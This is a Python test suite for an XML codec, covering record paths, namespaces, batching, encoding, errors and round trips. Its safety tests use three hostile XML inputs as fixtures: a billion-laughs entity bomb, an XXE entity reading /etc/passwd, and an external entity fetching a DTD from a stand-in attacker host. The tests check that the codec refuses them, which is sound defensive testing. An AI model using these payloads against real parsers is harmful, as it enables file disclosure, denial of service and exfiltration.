"""The xml codec: records paths, attributes, namespaces, safety, errors and round trips."""

from __future__ import annotations

import io
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from engine.codecs.xml import XmlCodec
from engine.errors import DataError

ORDERS = b"""<?xml version="1.0" encoding="UTF-8"?>
<orders xmlns:x="http://example.com/x">
  <order id="1"><sku>A-1</sku><x:qty>2</x:qty></order>
  <order id="2">rush<sku>B</sku><sku>C</sku></order>
  <order>plain</order>
  <order/>
  <note>not an order</note>
</orders>
"""


def decode(data: bytes, batch_size: int = 1000, **options: Any) -> list[dict[str, Any]]:
    codec = XmlCodec(**options)
    records: list[dict[str, Any]] = []
    for chunk in codec.decode(io.BytesIO(data), source="in.xml", batch_size=batch_size):
        assert len(chunk.records) <= batch_size
        records.extend(chunk.records)
    return records


def encode(records: list[dict[str, Any]], **options: Any) -> bytes:
    out = io.BytesIO()
    encoder = XmlCodec(**options).encoder(out)
    encoder.write(records)
    encoder.finish()
    return out.getvalue()


def test_records_path_attributes_and_text() -> None:
    records = decode(ORDERS, records="orders/order")
    assert records == [
        {"@id": "1", "sku": "A-1", "x:qty": "2"},
        {"@id": "2", "#text": "rush", "sku": ["B", "C"]},
        {"#text": "plain"},
        {},
    ]


def test_wildcard_path_takes_every_child_of_the_root() -> None:
    records = decode(ORDERS)
    assert len(records) == 5
    assert records[-1] == {"#text": "not an order"}


def test_custom_prefixes() -> None:
    records = decode(ORDERS, records="orders/order", attr_prefix="_", text_key="value")
    assert records[1] == {"_id": "2", "value": "rush", "sku": ["B", "C"]}


def test_force_list() -> None:
    records = decode(ORDERS, records="orders/order", force_list=("sku",))
    assert records[0]["sku"] == ["A-1"]
    assert records[1]["sku"] == ["B", "C"]


def test_namespaces_strip_and_map() -> None:
    assert decode(ORDERS, records="orders/order", namespaces="strip")[0] == {
        "@id": "1",
        "sku": "A-1",
        "qty": "2",
    }
    mapped = decode(ORDERS, records="orders/order", namespaces={"http://example.com/x": "ex"})
    assert mapped[0]["ex:qty"] == "2"


def test_namespace_path_matches_stripped_names() -> None:
    doc = b'<a:feed xmlns:a="urn:a"><a:item><a:v>1</a:v></a:item></a:feed>'
    assert decode(doc, records="feed/item", namespaces="strip") == [{"v": "1"}]
    assert decode(doc, records="a:feed/a:item") == [{"a:v": "1"}]


def test_batches() -> None:
    doc = b"<r>" + b"".join(b"<i><n>%d</n></i>" % i for i in range(25)) + b"</r>"
    codec = XmlCodec()
    chunks = list(codec.decode(io.BytesIO(doc), source="in.xml", batch_size=10))
    assert [len(c.records) for c in chunks] == [10, 10, 5]
    assert chunks[2].records[-1] == {"n": "24"}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz><lol>&lol3;</lol></lolz>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo><bar>&xxe;</bar></foo>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd; ]>
<foo><bar>x</bar></foo>
"""


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(DataError, match="entity declaration 'lol'") as info:
        decode(BILLION_LAUGHS)
    assert info.value.line == 3
    assert info.value.source == "in.xml"


def test_xxe_is_refused() -> None:
    with pytest.raises(DataError, match=r"'xxe' \(external: file:///etc/passwd\)") as info:
        decode(XXE)
    assert info.value.line == 2


def test_external_parameter_entity_is_refused() -> None:
    with pytest.raises(DataError, match="refused"):
        decode(XXE_PARAMETER)


def test_doctype_allowed_unless_forbidden() -> None:
    doc = b'<?xml version="1.0"?>\n<!DOCTYPE r>\n<r><i>1</i></r>'
    assert decode(doc) == [{"#text": "1"}]
    with pytest.raises(DataError, match="DTDs are forbidden") as info:
        decode(doc, forbid_dtd=True)
    assert info.value.line == 2


def test_malformed_xml_names_line_and_column() -> None:
    doc = b"<r>\n  <i>1</i>\n  <i>2</j>\n</r>"
    with pytest.raises(DataError, match="mismatched tag") as info:
        decode(doc)
    assert (info.value.line, info.value.column) == (3, 9)
    assert str(info.value).startswith("in.xml:3:9: malformed XML")


def test_records_already_yielded_stay_delivered() -> None:
    doc = b"<r>" + b"<i>1</i>" * 3 + b"<i>oops</r>"
    got: list[dict[str, Any]] = []
    with pytest.raises(DataError):
        for chunk in XmlCodec().decode(io.BytesIO(doc), source="x", batch_size=1):
            got.extend(chunk.records)
    assert got == [{"#text": "1"}] * 3


def test_encode_root_and_item() -> None:
    data = encode(
        [{"@id": "1", "sku": "A"}, {"tags": {"t": ["x", "y"]}}], root="orders", item="order"
    )
    assert data == (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<orders><order id="1"><sku>A</sku></order>'
        b"<order><tags><t>x</t><t>y</t></tags></order></orders>"
    )
    assert decode(data, records="orders/order") == [
        {"@id": "1", "sku": "A"},
        {"tags": {"t": ["x", "y"]}},
    ]


def test_encode_escapes_and_pretty() -> None:
    data = encode([{"q": "a < b & c"}], pretty=True)
    assert b"<q>a &lt; b &amp; c</q>" in data
    assert decode(data) == [{"q": "a < b & c"}]


def test_encode_empty_is_a_valid_document() -> None:
    assert decode(encode([])) == []


def test_encode_bad_key_names_the_record() -> None:
    with pytest.raises(DataError, match="record 2"):
        encode([{"ok": "1"}, {"bad name": "x"}])


def test_invalid_options_are_config_errors() -> None:
    with pytest.raises(ValidationError, match="records must be a path"):
        XmlCodec(records="a//b c")
    with pytest.raises(ValidationError, match="not a valid XML element name"):
        XmlCodec(root="1abc")
    with pytest.raises(ValidationError):
        XmlCodec(namespaces="drop")  # type: ignore[arg-type]


def _big(count: int) -> Iterator[bytes]:
    yield b"<r>"
    for i in range(count):
        yield b"<i><n>%d</n><s>some text here</s></i>" % i
    yield b"</r>"


class _Chunks(io.RawIOBase):
    """A readable stream generated on the fly, so the input itself takes no memory."""

    def __init__(self, parts: Iterator[bytes]) -> None:
        self._parts = parts
        self._rest = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        while not self._rest:
            self._rest = next(self._parts, b"")
            if not self._rest:
                return 0
        n = min(len(buffer), len(self._rest))
        buffer[:n] = self._rest[:n]
        self._rest = self._rest[n:]
        return n


def test_decoding_streams_in_flat_memory() -> None:
    stream = io.BufferedReader(_Chunks(_big(200_000)))
    tracemalloc.start()
    try:
        seen = 0
        for chunk in XmlCodec().decode(stream, source="big.xml", batch_size=500):
            seen += len(chunk.records)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert seen == 200_000
    # 200k records held at once would take well over 50 MB; a flat decoder stays far below.
    assert peak < 8_000_000


_names = st.from_regex(r"[a-z][a-z0-9_]{0,6}", fullmatch=True)
_text = st.text(
    alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
    min_size=1,
    max_size=20,
).filter(lambda s: s.strip() == s and s != "")
_values: st.SearchStrategy[Any] = st.recursive(
    _text,
    lambda inner: st.one_of(
        st.dictionaries(_names, inner, min_size=1, max_size=4),
        st.lists(inner, min_size=2, max_size=3).filter(
            lambda xs: all(not isinstance(x, list) for x in xs)
        ),
    ),
    max_leaves=8,
)
_records = st.dictionaries(_names, _values, min_size=1, max_size=5)


@settings(max_examples=150, deadline=None)
@given(st.lists(_records, max_size=5))
def test_round_trip(records: list[dict[str, Any]]) -> None:
    assert decode(encode(records)) == records


@settings(max_examples=50, deadline=None)
@given(st.lists(_records, max_size=3), st.sampled_from([("orders", "order"), ("a", "b")]))
def test_round_trip_with_names_and_pretty(
    records: list[dict[str, Any]], names: tuple[str, str]
) -> None:
    root, item = names
    data = encode(records, root=root, item=item, pretty=True)
    assert decode(data, records=f"{root}/{item}") == records
